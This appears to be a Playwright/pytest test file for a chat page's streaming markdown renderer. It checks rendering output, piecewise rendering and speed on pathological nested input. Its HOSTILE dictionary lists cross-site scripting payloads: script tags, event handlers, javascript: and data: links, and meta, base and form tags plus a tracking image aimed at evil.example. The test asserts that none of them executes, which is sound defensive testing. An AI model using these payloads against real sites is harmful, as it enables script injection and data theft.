"""Markdown: what it looks like, that it grows as it comes, and that nothing in it does anything."""

from __future__ import annotations

import random
from collections.abc import Iterator
from typing import Any

import pytest

from tests.page.conftest import Open
from tests.page.scripted import Scripted, finish, text

# Shows a text in pieces of some length: what became of it, how deep, and how long the last took.
SHOW = """async ([text, pieces]) => {
    const { Markdown } = await import("/page/js/markdown/render.js");
    const element = document.createElement("div");
    const markdown = new Markdown(element);
    for (let end = pieces; end < text.length; end += pieces) markdown.show(text.slice(0, end));
    const before = performance.now();
    markdown.show(text);
    const took = performance.now() - before;
    const below = (node) => Math.max(0, ...Array.from(node.children, below)) + 1;
    element.querySelectorAll("figcaption").forEach((each) => each.remove());
    const html = element.innerHTML.replaceAll(' class=""', "");
    return { html, depth: below(element), took };
}"""


@pytest.fixture(scope="module")
def shower(browser: Any, obedient: Scripted) -> Iterator[Any]:
    """A page that shows markdown."""
    context = browser.new_context()
    page = context.new_page()
    page.goto(obedient.url)
    yield page
    context.close()


def shown(page: Any, markdown: str, pieces: int = 1 << 30) -> str:
    """HTML of a text, that comes in pieces of some length."""
    html: str = page.evaluate(SHOW, [markdown, pieces])["html"]
    return html


def code(body: str, language: str = "") -> str:
    """A block of code."""
    label = f"Code in {language}" if language else "Code"
    name = f' data-language="{language}"'
    pre = f'<pre tabindex="0" role="region" aria-label="{label}"><code>{body}</code></pre>'
    return f'<figure class="code"{name}>{pre}</figure>'


def lines(body: str) -> str:
    """Lines of long code that stand together."""
    return f'<span class="lines">{body}</span>'


def link(address: str, text: str) -> str:
    """A link as the page makes it."""
    rel = "noopener noreferrer nofollow"
    return f'<a href="{address}" title="{address}" target="_blank" rel="{rel}">{text}</a>'


CASES = {
    "paragraphs": ("One\ntwo\n\nthree", "<p>One<br>two</p><p>three</p>"),
    "headings": ("# A\n## B ##\n### C#\n#no", "<h3>A</h3><h4>B</h4><h5>C#</h5><p>#no</p>"),
    "emphasis": (
        "*a* **b** ***c*** ~~d~~ _e_ __f__ a_b_c 2 * 3 * 4",
        "<p><em>a</em> <strong>b</strong> <em><strong>c</strong></em> <del>d</del> <em>e</em> "
        "<strong>f</strong> a_b_c 2 * 3 * 4</p>",
    ),
    "mixed": ("**a *b* c** *d", "<p><strong>a <em>b</em> c</strong> *d</p>"),
    "escapes": (r"\*a\* \`b\` &lt; &amp; &#65; &nope;", "<p>*a* `b` &lt; &amp; A &amp;nope;</p>"),
    "formulas": (
        r"\(a_1*b*c_2\) is \[E = \\frac{m*c}{2}*\] and $x_1*y*z^2$, $$a*b*$$: 5$ *or* $6 \(d",
        r'<p><code class="formula">\(a_1*b*c_2\)</code> is <code class="formula">\[E = '
        r'\\frac{m*c}{2}*\]</code> and <code class="formula">$x_1*y*z^2$</code>, '
        r'<code class="formula">$$a*b*$$</code>: 5$ <em>or</em> $6 (d</p>',
    ),
    "a formula of lines": (
        "\\[\na_1 \\\\\nb*c*d\n\\]",
        '<p><code class="formula">\\[\na_1 \\\\\nb*c*d\n\\]</code></p>',
    ),
    "code": ("`a*b*` ``c`d`` `e", "<p><code>a*b*</code> <code>c`d</code> `e</p>"),
    "links": (
        "[a *b*](https://x.org/c) https://x.org/d. <https://x.org/e>",
        f"<p>{link('https://x.org/c', 'a <em>b</em>')} "
        f"{link('https://x.org/d', 'https://x.org/d')}. "
        f"{link('https://x.org/e', 'https://x.org/e')}</p>",
    ),
    "no links": ("[a](javascript:b) [c](d) [e]", "<p>[a](javascript:b) [c](d) [e]</p>"),
    "images": (
        "![a cat](https://x.org/c.png)",
        f"<p>{link('https://x.org/c.png', 'Image: a cat')}</p>",
    ),
    "lists": (
        "- a\n- b\n  - c\n  - d\n\n1. e\n2. f",
        "<ul><li><p>a</p></li><li><p>b</p><ul>"
        "<li><p>c</p></li><li><p>d</p></li></ul></li></ul>"
        "<ol><li><p>e</p></li><li><p>f</p></li></ol>",
    ),
    "numbers": ("3. c\n4. d", '<ol start="3"><li><p>c</p></li><li><p>d</p></li></ol>'),
    "tasks": (
        "- [x] a\n- [ ] b",
        '<ul><li class="task" data-done="yes"><p>a</p></li>'
        '<li class="task" data-done="no"><p>b</p></li></ul>',
    ),
    "code in a list": (
        "1. a\n   ```py\n   b\n   ```\n2. c",
        f"<ol><li><p>a</p>{code('b', 'py')}</li><li><p>c</p></li></ol>",
    ),
    "quotes": (
        "> a\nb\n> > c\n\nd",
        "<blockquote><p>a<br>b</p><blockquote><p>c</p></blockquote></blockquote><p>d</p>",
    ),
    "fences": ("```py\na\n\n# b\n```\nc", code("a\n\n# b", "py") + "<p>c</p>"),
    "long code": (
        "```\n" + "a\n" * 89 + "b\n```",
        code("a\n" * 40 + lines("a\n" * 40) + lines("a\n" * 9 + "b")),
    ),
    "an open fence": ("~~~\na\n```", code("a\n```")),
    "tables": (
        "| a | b |\n|---|--:|\n| `c|d` | *e* |\n| f |",
        '<div class="table" tabindex="0" role="region" aria-label="Table"><table><thead><tr>'
        '<th>a</th><th class="end">b</th></tr></thead><tbody><tr><td><code>c|d</code></td>'
        '<td class="end"><em>e</em></td></tr><tr><td>f</td>'
        '<td class="end"></td></tr></tbody></table></div>',
    ),
    "no table": ("a | b\nc", "<p>a | b<br>c</p>"),
    "rules": ("a\n\n---\n***\nb", "<p>a</p><hr><hr><p>b</p>"),
    "html": ("<b>a</b> <br> <!-- c -->", "<p>&lt;b&gt;a&lt;/b&gt; <br> &lt;!-- c --&gt;</p>"),
}


@pytest.mark.parametrize("case", CASES)
def test_it_looks_as_it_should(shower: Any, case: str) -> None:
    markdown, html = CASES[case]
    assert shown(shower, markdown) == html


@pytest.mark.parametrize("pieces", [1, 3, 7])
def test_it_looks_the_same_when_it_comes_in_pieces(shower: Any, pieces: int) -> None:
    for markdown, html in CASES.values():
        assert shown(shower, markdown, pieces) == html
    whole = "\n\n".join(markdown for markdown, _ in CASES.values() if "~~~" not in markdown)
    assert shown(shower, whole, pieces) == shown(shower, whole)


def test_random_texts_look_the_same_when_they_come_in_pieces(shower: Any) -> None:
    chance = random.Random(7)
    signs = ["a", "b ", " ", "\n", "\n\n", "*", "**", "_", "`", "```", "- ", "1. ", "> ", "#", "|"]
    signs += ["[", "](", ")", "http://x.y", "---", "  ", "\\", "~~", "<", "&amp;", "| - | - |\n"]
    for _ in range(100):
        markdown = "".join(chance.choices(signs, k=chance.randint(1, 60)))
        assert shown(shower, markdown, chance.randint(1, 5)) == shown(shower, markdown), markdown


HOSTILE = {
    "script": "<script>window.hacked = 1</script>",
    "handler": '<img src=x onerror="window.hacked = 1">',
    "svg": '<svg onload="window.hacked = 1"><animate onbegin="window.hacked = 1"/></svg>',
    "style": "<style>body { background: url(https://evil.example/a) }</style>",
    "frame": '<iframe srcdoc="<script>parent.hacked = 1</script>"></iframe>',
    "meta": '<meta http-equiv="refresh" content="0; url=https://evil.example/">',
    "base": '<base href="https://evil.example/"><link rel=stylesheet href="https://evil.example/">',
    "form": '<form action="https://evil.example/"><input autofocus onfocus="window.hacked = 1">',
    "link": "[a](javascript:window.hacked=1) [b](JaVaScRiPt:window.hacked=1)",
    "hidden link": "[a](java\nscript:x) [b](&#106;avascript:x) [c](\x01javascript:x)",
    "data": "[a](data:text/html,<script>parent.hacked=1</script>) ![b](data:image/svg+xml,<svg/>)",
    "file": "[a](file:///etc/passwd) [b](//evil.example/) [c](blob:https://evil.example/1)",
    "image": "![a](https://evil.example/pixel.png?secret=1)",
    "angle": "<javascript:window.hacked=1> <data:text/html,x>",
    "attribute": '[a](https://x.org/"onmouseover="window.hacked=1) [b](https://x.org/ "t" on=1)',
    "language": '```"><script>window.hacked=1</script>\ncode\n```',
    "entities": "&lt;script&gt;window.hacked=1&lt;/script&gt;",
}


def test_hostile_texts_are_texts(visit: Open, told: Scripted) -> None:
    """``visit`` also fails if any of them makes a request to anywhere else."""
    chat = visit(told.url)
    whole = "\n\n".join(HOSTILE.values())
    told.will([*[text(piece) for piece in HOSTILE.values()], finish()], [text(whole), finish()])
    chat.say(whole)
    chat.settings().get_by_label("Show my own messages as markdown").check()
    chat.close_dialog()
    chat.say(whole)
    chat.page.wait_for_timeout(200)
    assert chat.page.evaluate("() => window.hacked") is None
    forbidden = "script, style, svg:not(.icon), img, iframe, meta, base, link, form, input, object"
    assert chat.page.locator("#messages").locator(forbidden).count() == 0
    for address in chat.page.locator("#messages a").evaluate_all("all => all.map((a) => a.href)"):
        assert address.startswith(("https://", "http://", "mailto:"))
    for attribute in chat.page.locator("#messages *").evaluate_all(
        "all => all.flatMap((each) => each.getAttributeNames())"
    ):
        assert not attribute.startswith("on")
    assert "<script>window.hacked = 1</script>" in chat.reply.inner_text()


DEEP = 10_000
HEAVY = {
    "quotes": ">" * DEEP + " x",
    "lists": "- " * DEEP + "x",
    "brackets": "[" * DEEP + "x" + "](a)" * DEEP,
    "images": "![" * DEEP,
    "stars": "*" * DEEP + "x",
    "opened": "*a " * DEEP,
    "opened and closed": "**a *" * DEEP + "*b** " * DEEP,
    "underscores": "_a_b" * DEEP,
    "ticks": "".join("`" * n + " " for n in range(1, 150)) * 2,
    "backslashes": "\\" * DEEP,
    "angles": "<" * DEEP,
    "elements": "<div>" * DEEP + "</div>" * DEEP,
    "entities": "&" * DEEP + "&amp;" * DEEP,
    "links": "[a](" * DEEP,
    "addresses": "http://" * DEEP,
    "parentheses": "https://x.org/" + "(" * DEEP + ")" * DEEP,
    "spaces": "# a" + " " * DEEP + "b\n" + "[a](" + " " * DEEP + "b",
    "fences": "~" * DEEP + "`\n" + "```\n" * DEEP,
    "tables": "|" * DEEP + "\n" + "|-" * DEEP + "|\n" + "|" * DEEP,
    "rows": "|a|\n|-|\n" + "|b|\n" * DEEP,
    "rules": "- " * DEEP + "\n" + "* " * DEEP + "x",
    "indented": "\n".join(" " * n + "- x" for n in range(400)),
    "blank lines": "- a" + "\n" * DEEP + "b",
    "numbers": "\n".join("1. x" for _ in range(DEEP)),
    "tildes": "~~a" * DEEP,
    "one line": "word " * (10 * DEEP),
}


@pytest.mark.parametrize("case", HEAVY)
def test_whatever_is_nested_or_long_is_shown_at_once(shower: Any, case: str) -> None:
    """Each takes milliseconds; quadratic time would be minutes."""
    result = shower.evaluate(SHOW, [HEAVY[case], 1 << 30])
    assert result["took"] < 3000
    assert result["depth"] < 100
